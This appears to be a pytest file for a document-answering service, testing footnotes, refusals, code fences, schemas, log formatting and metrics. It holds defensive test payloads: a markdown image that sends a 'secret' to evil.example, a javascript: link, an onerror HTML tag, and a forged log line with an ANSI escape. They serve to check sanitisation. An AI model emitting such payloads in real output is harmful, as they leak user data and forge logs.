"""Answers as data and as text, and log lines: what comes from documents stays text wherever it is shown."""

from __future__ import annotations

import json
import logging
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indexer.types import Section
from rag.service import schemas
from rag.service.documents import Names, document_id
from rag.service.observing import JsonLines, Metrics, PlainLines
from rag.service.shapes import answer_json, chat_text
from rag.service.uploads import Uploads
from rag.types import Answer, Citation, CopiedText, Outcome, Passage, given_passage

NAMES = Names(Uploads(Path("/nowhere")), "world")
SURE = "*confidence 75%, by the copying generator*"
HOSTILE = "See ![pixel](http://evil.example/?q=secret) and [here](javascript:alert(1)) <img src=x onerror=y>."


def answer(
    text: str, *citations: Citation, passages: tuple[Passage, ...] = (), outcome: Outcome | None = None, **more: Any
) -> Answer:
    told: Outcome = outcome or ("answer" if text else "none")
    return Answer("Who?", text, told, 0.75, citations, passages, "copying", "world", 3, **more)


def citation(number: int, quote: str, *claims: tuple[int, int], **more: Any) -> Citation:
    about: dict[str, Any] = {"source": "/docs/a.md", "sha256": "0" * 64, "page": None, "start": 0, "end": len(quote)}
    return Citation(number=number, quote=quote, claims=claims, **{**about, "title": "A", **more})


def test_footnotes_stand_behind_what_they_bear_out() -> None:
    made = answer("Tea is green. Salt is white.", citation(1, "Tea is green.", (0, 13), page=2),
                  citation(2, "Salt is white.", (14, 28), line=7), citation(3, "Both.", (0, 13), (14, 28)))  # fmt: skip
    assert chat_text(made, NAMES).split("\n\n") == [
        "Tea is green.[^1][^3] Salt is white.[^2][^3]",
        SURE,
        "[^1]: A, page 2: “Tea is green.”\n[^2]: A, line 7: “Salt is white.”\n[^3]: A: “Both.”",
    ]


def test_a_refusal_says_so_and_shows_the_nearest() -> None:
    nearest = given_passage("Tea   is\ngreen. " + "x" * 400, source="/docs/tea.md")  # no word of it is asked for
    said = chat_text(answer("", passages=(nearest,)), NAMES)
    nothing = "**Nothing in these documents bears on this.**"
    assert said.split("\n\n") == [nothing, SURE, "The nearest passages:", "- tea.md: Tea is green."]
    assert chat_text(answer(""), NAMES) == nothing
    assert "Did you mean: *Whose?*" in chat_text(answer("", meant="Whose?"), NAMES)


def test_the_closest_evidence_says_what_it_is() -> None:
    made = answer("Tea is green.", citation(1, "Tea is green.", (0, 13)), outcome="unsure", read_as="Who is green?")
    assert chat_text(made, NAMES).split("\n\n") == [
        "*read as: Who is green?*",
        "*Not sure. The closest is:*",
        "Tea is green.[^1]",
        SURE,
        "[^1]: A: “Tea is green.”",
    ]


def test_yes_of_which_nobody_is_sure_is_not_said() -> None:
    made = answer("Yes. Tea is green.", citation(1, "Tea is green.", (5, 18)), outcome="unsure", form="yes-no")
    said = chat_text(made, NAMES)
    assert said.startswith("*Not sure. The closest is:*\n\nTea is green.[^1]\n\n")
    assert "Yes" not in said


def test_a_quotation_beside_the_answer_has_no_number_in_it() -> None:
    made = answer("Tea is green.", citation(1, "Tea is green.", (0, 13)), citation(2, "Salt is white."))
    assert chat_text(made, NAMES).split("\n\n") == [
        "Tea is green.[^1]",
        SURE,
        "[^1]: A: “Tea is green.”\n[^2]: A: “Salt is white.”",
    ]


@pytest.mark.parametrize("code", ["x = [1](2)\n  y = 3", "y = 4\n````\n![a](b)", "z\n~~~\n`````\nw"])
def test_code_stands_between_fences_that_nothing_in_it_ends(code: str) -> None:
    text = f"Write:\n\n{code}\n\nThen go."
    start = text.index(code)
    read = replace(given_passage(text, source="/docs/a.md"), sections=(Section(start, start + len(code), "code"),))
    whole = citation(1, text, (0, len(text)), end=len(text))
    made = answer(text, whole, passages=(read,), copied=(CopiedText(0, len(text), 1, 0, len(text)),))
    assert made.code == ((start, start + len(code)),)
    said = chat_text(made, NAMES)
    (fence,) = re.findall(r"(?m)^(`{3,})\n" + re.escape(code) + r"\n\1$", said)
    assert fence not in code
    assert said.startswith("Write:\n\n```")
    assert "Then go.[^1]" in said


def images_and_links(markdown: str) -> list[str]:
    """Return what CommonMark could make an image, a link, a definition or HTML of; a backslash takes its power.

    The numbers of our own footnotes, and the beginnings of the footnotes, are left out.
    """
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", ".", markdown)
    bare = re.sub(r"\[\^1\]", "", re.sub(r"(?m)^\[\^1\]: ", "", bare))
    return re.findall(r"!\[|\]\(|\]:|\]\[|<[A-Za-z/!?]", bare)


def test_documents_cannot_make_a_chat_client_fetch_anything() -> None:
    made = answer(HOSTILE, citation(1, HOSTILE, (0, len(HOSTILE)), title=HOSTILE))
    assert images_and_links(HOSTILE)
    assert not images_and_links(chat_text(made, NAMES))
    refused = answer("", passages=(given_passage(HOSTILE, title=HOSTILE),))
    assert not images_and_links(chat_text(refused, NAMES))


@given(st.text(alphabet="![]()<>a/:\\ 1", max_size=30))
def test_no_text_makes_an_image_a_link_or_html(text: str) -> None:
    made = answer(text or "a", citation(1, text, (0, len(text)), title=text))
    assert not [found for found in images_and_links(chat_text(made, NAMES)) if found != "]["]


def test_the_data_of_an_answer_is_what_the_schema_says() -> None:
    text = "# Rain\n\nRain fell.\n\n## Snow\n\nSnow fell."
    sections = (Section(0, 6, "heading", 1), Section(8, 18), Section(20, 27, "heading", 2), Section(29, 39))
    read = replace(given_passage(text, source="/docs/a.md"), context="Weather > Rain", sections=sections)
    snow = citation(1, "Snow fell.", (0, 10), start=29, end=39)
    rain = citation(2, "Rain fell.", (0, 10), start=8, end=18)
    found = schemas.AskResponse.model_validate(answer_json(answer("Snow fell.", snow, rain, passages=(read,)), NAMES))
    assert found.citations[0].headings == ["Weather", "Snow"]
    assert found.citations[1].headings == ["Weather", "Rain"]
    assert found.citations[0].document == document_id("/docs/a.md") == found.passages[0].document
    assert re.fullmatch(r"[0-9a-f]{24}", found.citations[0].document)


# Log lines


def record(**fields: Any) -> logging.LogRecord:
    made = logging.LogRecord("rag.service.observing", logging.INFO, "x.py", 1, "request", None, None)
    made.created, made.msecs = 1_700_000_000.25, 250.0
    made.__dict__["fields"] = fields
    return made


def test_a_line_of_json_holds_what_a_request_was() -> None:
    line = json.loads(JsonLines().format(record(route="/v1/ask", status=200, question="a\nb")))
    assert line == {
        "time": "2023-11-14T22:13:20.250Z", "level": "info", "logger": "rag.service.observing", "message": "request",
        "route": "/v1/ask", "status": 200, "question": "a\nb",
    }  # fmt: skip


@pytest.mark.parametrize("formatter", [JsonLines(), PlainLines()])
def test_a_question_in_the_log_cannot_begin_a_line_of_its_own(formatter: logging.Formatter) -> None:
    line = formatter.format(record(route="/v1/ask", question="a\n06:00:00 GET /forged 200\x1b[31m"))
    assert "\n" not in line
    assert "\x1b" not in line


def test_methods_that_nobody_knows_make_no_new_counts() -> None:
    metrics = Metrics(lambda: 7)
    for method in ("GET", "PWN1", "PWN2"):
        metrics.begin()
        metrics.end(method, "-", 405, 0.01)
    text = metrics.text().decode()
    assert 'method="other",route="-",status="405"} 2.0' in text
    assert "footnote_queue 7.0" in text
    assert "footnote_requests_in_progress 0.0" in text
